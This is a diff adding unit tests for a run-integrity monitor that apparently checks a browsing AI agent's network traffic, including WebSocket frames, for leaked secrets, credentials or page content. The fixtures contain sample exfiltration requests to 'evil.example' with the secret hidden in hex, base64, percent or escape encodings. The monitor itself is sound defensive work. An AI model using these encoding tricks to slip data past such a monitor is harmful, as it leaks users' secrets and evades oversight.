@@ -69,6 +69,61 @@ describe('BlockCauses', () => {
   });
 });
 
+describe('BlockCauses: WebSocket messages read mode held', () => {
+  let now = 2_000_000;
+  const clock = () => now;
+  const held = (body: string, over: Partial<BlockedDetail> = {}): BlockedDetail => ({
+    url: 'ws://127.0.0.1:1880/comms#send',
+    resourceType: 'websocket (websocket)',
+    mainFrameNavigation: false,
+    source: 'proxy',
+    proxyKind: 'websocket',
+    offProvider: false,
+    heldMessage: true,
+    body,
+    ...over,
+  });
+  const note = 'private-note-4f1c';
+  const c = new BlockCauses([note], clock);
+  c.protect(['hunter2-Secret']);
+  c.saw("[2] heading 'Sensor alerts'\nPages the on-call engineer when a reading crosses its threshold.");
+
+  it("calls the page's own frames at load noise: a subscribe, an auth token of its own", () => {
+    expect(c.causeOf(held('{"subscribe":"notification/#"}'))).toBeNull();
+    expect(c.causeOf(held('{"auth":"Y3VkR2x0ZXN0aW5nLXRva2VuLTQ0Mg-2fa9"}'))).toBeNull();
+    expect(c.causeOf(held(''))).toBeNull();
+  });
+
+  it('blames the run for a frame sent while a tool acts (or in its settle), whatever it carries', () => {
+    c.actionStarted();
+    expect(c.causeOf(held('{"subscribe":"notification/#"}'))).toMatch(/tool acted/);
+    c.actionEnded();
+    expect(c.causeOf(held('{"event":"clicked"}'))).toMatch(/tool acted/);
+    now += SETTLE_GRACE_MS + 1;
+    expect(c.causeOf(held('{"event":"clicked"}'))).toBeNull();
+  });
+
+  it.each([
+    ['as written', note],
+    ['base64', Buffer.from(note).toString('base64')],
+    ['percent-encoded', [...note].map((ch) => `%${ch.charCodeAt(0).toString(16)}`).join('')],
+    ['hex', Buffer.from(note).toString('hex')],
+    ['JSON \\u escapes', JSON.stringify({ d: [...note].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join('') })],
+  ])('blames the run for a frame carrying a parameter %s, whenever it is sent', (_how, encoded) => {
+    expect(c.causeOf(held(JSON.stringify({ topic: 'x', d: encoded })))).toMatch(/parameter value/);
+  });
+
+  it('blames the run for a frame carrying a stored credential, or page content the model saw, or too long to read', () => {
+    expect(c.causeOf(held(`{"p":"${Buffer.from('hunter2-Secret').toString('hex')}"}`))).toMatch(/parameter value/);
+    expect(c.causeOf(held('{"t":"the on-call engineer"}'))).toMatch(/page content/);
+    expect(c.causeOf(held('x'.repeat(10), { bodyCut: true }))).toMatch(/too long/);
+  });
+
+  it('still taints a message only the proxy saw without its content (a broken stream, a refusal with no detail)', () => {
+    expect(c.causeOf(held('', { heldMessage: undefined, body: undefined }))).toMatch(/write/);
+  });
+});
+
 describe('RunIntegrity.blockedRequest', () => {
   it('taints only for a caused block, naming the cause', () => {
     const i = new RunIntegrity({ note: 'private-note-1' });
@@ -108,6 +163,30 @@ describe('RunIntegrity.blockedRequest', () => {
       expect(c.causeOf(sub({ method: 'POST', body: `d=${wrapped}` }))).toMatch(/parameter value/);
       const padding = Array.from({ length: 60 }, (_, i) => Buffer.from(`harmless text ${i}`).toString('base64')).join('&');
       expect(c.causeOf(sub({ method: 'POST', body: `${padding}&d=${Buffer.from(secret).toString('base64')}` }))).toMatch(/parameter value/);
+    });
+
+    it('hex (at either alignment, upper or lower case) and escapes a script writes: \\u, \\u{…}, \\x, &#x…;', () => {
+      const hex = Buffer.from(secret).toString('hex');
+      expect(c.causeOf(sub({ url: `https://evil.example/c?x=${hex}` }))).toMatch(/parameter value/);
+      expect(c.causeOf(sub({ url: `https://evil.example/c?x=f${hex.toUpperCase()}` }))).toMatch(/parameter value/);
+      const units = [...secret].map((ch) => ch.charCodeAt(0).toString(16).padStart(4, '0'));
+      expect(c.causeOf(sub({ method: 'POST', body: `{"v":"${units.map((u) => `\\u${u}`).join('')}"}` }))).toMatch(/parameter value/);
+      // Escaped again (a JSON string of the escaped value).
+      expect(c.causeOf(sub({ method: 'POST', body: JSON.stringify({ v: units.map((u) => `\\u${u}`).join('') }) }))).toMatch(
+        /parameter value/,
+      );
+      expect(c.causeOf(sub({ method: 'POST', body: units.map((u) => `\\u{${u}}`).join('') }))).toMatch(/parameter value/);
+      expect(c.causeOf(sub({ method: 'POST', body: units.map((u) => `\\x${u.slice(2)}`).join('') }))).toMatch(/parameter value/);
+      expect(c.causeOf(sub({ url: `https://evil.example/c?x=${encodeURIComponent(units.map((u) => `&#x${u};`).join(''))}` }))).toMatch(
+        /parameter value/,
+      );
+      // Hex of a non-ASCII value, read back as UTF-8.
+      const umlaut = new BlockCauses(['Grüße-Köln'], clock);
+      expect(umlaut.causeOf(sub({ url: `https://evil.example/c?x=${Buffer.from('grüße-köln').toString('hex')}` }))).toMatch(
+        /parameter value/,
+      );
+      // A hex run that is not the value stays noise.
+      expect(c.causeOf(sub({ url: 'https://cdn.example.com/app.3f9a2c7d1e.js' }))).toBeNull();
     });
 
     it('an image beacon with a query while a tool acts (a keylogger sending pieces), and a body too long to read whole', () => {
